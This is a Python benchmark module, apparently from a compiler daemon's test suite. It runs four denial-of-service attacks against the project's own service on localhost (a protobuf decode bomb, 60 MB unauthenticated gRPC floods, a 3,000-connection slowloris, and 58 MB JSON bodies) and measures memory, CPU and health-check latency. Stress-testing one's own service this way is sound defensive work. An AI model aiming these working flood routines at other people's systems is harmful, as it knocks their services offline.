"""Attackers for `benchmarks/service.py --attack KIND`: each runs in a process of its own until stopped.

    python benchmarks/attacks.py KIND GRPC_PORT HTTP_PORT

decode-bomb   six threads, each sending 8 MB modules of 1.6 M ops to Compile, back to back
preauth       six threads, each sending 60 MB Compile messages without the daemon's token
slowloris     3,000 connections that never finish their headers, reopened as the daemon closes them
json-values   two threads posting 58 MB JSON bodies of 29 M numbers to /v1/execute

The daemon side: `memory(pid)` reads its resident and peak memory from /proc, `cpu_seconds(pid)` the CPU
time a process (all its threads) has used, `children(pid)` its child processes (the compile workers);
`new_clients(port, s)` times fresh connections' GET /healthz (what a slowloris attack takes away first).
"""

from __future__ import annotations

import argparse
import os
import resource
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

KINDS = ("decode-bomb", "preauth", "slowloris", "json-values")
MB = 1 << 20


def memory(pid: int) -> dict[str, float]:
    """The process's resident memory (VmRSS) and its peak so far (VmHWM), in MB."""
    found = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                found["rss_mb" if key == "VmRSS" else "peak_rss_mb"] = round(int(value.split()[0]) / 1024, 1)
    return found


def cpu_seconds(pid: int) -> float:
    """User and system CPU time the process has used so far, all its threads (0 once it is gone)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rpartition(")")[2].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def children(pid: int) -> list[int]:
    """The processes whose parent is `pid`."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/stat") as f:
                    if int(f.read().rpartition(")")[2].split()[1]) == pid:
                        found.append(int(name))
            except OSError:  # gone meanwhile
                pass
    return found


def start(kind: str, grpc_port: int, http_port: int) -> subprocess.Popen[bytes]:
    return subprocess.Popen([sys.executable, str(Path(__file__).resolve()), kind, str(grpc_port), str(http_port)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def new_clients(http_port: int, seconds: float) -> dict[str, float]:
    """A fresh connection every 50 ms asking GET /healthz (2 s time-out): how many were served, p99 latency."""
    latencies, failed, stop = [], 0, time.monotonic() + seconds
    while time.monotonic() < stop:
        started = time.perf_counter()
        try:
            with socket.create_connection(("127.0.0.1", http_port), timeout=2) as s:
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                ok = s.recv(64).startswith(b"HTTP/1.1 200")
        except OSError:
            ok = False
        if ok:
            latencies.append(time.perf_counter() - started)
        else:
            failed += 1
        time.sleep(0.05)
    latencies.sort()
    p99 = latencies[min(len(latencies) - 1, int(0.99 * len(latencies)))] if latencies else float("nan")
    return {"served": len(latencies), "failed": failed, "p99_ms": round(1e3 * p99, 2)}


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        out.append(n & 0x7F | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def record(field: int, payload: bytes) -> bytes:
    """A length-delimited protobuf record."""
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def decode_bomb(ops: int, salt: int = 0, op: bytes = record(1, b"x")) -> bytes:
    """A module (schema 2) of one function holding `ops` copies of `op` (an Op message's bytes: by default a
    name 'x', 5 bytes an op; b"" for empty ops of 2 bytes), made unique by `salt` (an unknown field 15)."""
    fn = record(1, b"k") + record(2, record(2, op) * ops)
    return b"\x08\x02" + record(4, fn) + (b"\x78" + varint(salt) if salt else b"")


def _grpc_flood(grpc_port: int, make: Any, threads: int) -> None:
    import grpc

    from despina.proto import service_pb2 as pb
    from despina.proto import service_pb2_grpc

    channel = grpc.insecure_channel(f"127.0.0.1:{grpc_port}", options=[("grpc.max_send_message_length", -1)])
    stub = service_pb2_grpc.CompilerStub(channel)

    def flood(t: int) -> None:
        i = 0
        while True:
            i += 1
            try:
                stub.Compile(pb.CompileRequest(ir=make(t * 1_000_000 + i)), timeout=60)
            except grpc.RpcError:
                pass

    for t in range(threads):
        threading.Thread(target=flood, args=(t,), daemon=True).start()


def _slowloris(http_port: int, count: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, count + 256)), hard))
    open_: list[socket.socket] = []
    while True:
        alive = []
        for s in open_:
            try:
                s.send(b"X-a: b\r\n")  # one more header line: never the blank line that ends them
                alive.append(s)
            except OSError:
                s.close()
        open_ = alive
        while len(open_) < count:
            try:
                s = socket.create_connection(("127.0.0.1", http_port), timeout=1)
                s.sendall(b"POST /v1/compile HTTP/1.1\r\nHost: x\r\n")
                s.setblocking(False)
                open_.append(s)
            except OSError:
                break
        time.sleep(0.5)


def _json_values(http_port: int, threads: int) -> None:
    body = b"[" + b"0," * 29_000_000 + b"0]"
    head = b"POST /v1/execute HTTP/1.1\r\nHost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n"

    def flood() -> None:
        while True:
            try:
                with socket.create_connection(("127.0.0.1", http_port), timeout=60) as s:
                    s.sendall(head % len(body))
                    s.sendall(body)
                    s.recv(4096)
            except OSError:
                time.sleep(0.1)

    for _ in range(threads):
        threading.Thread(target=flood, daemon=True).start()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("grpc_port", type=int)
    parser.add_argument("http_port", type=int)
    args = parser.parse_args()
    if args.kind == "decode-bomb":
        _grpc_flood(args.grpc_port, lambda i: decode_bomb(1_600_000, i), threads=6)
    elif args.kind == "preauth":
        big = b"\0" * (60 * 1000 * 1000)
        _grpc_flood(args.grpc_port, lambda i: big, threads=6)
    elif args.kind == "json-values":
        _json_values(args.http_port, threads=2)
    else:
        _slowloris(args.http_port, 3000)
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    main()
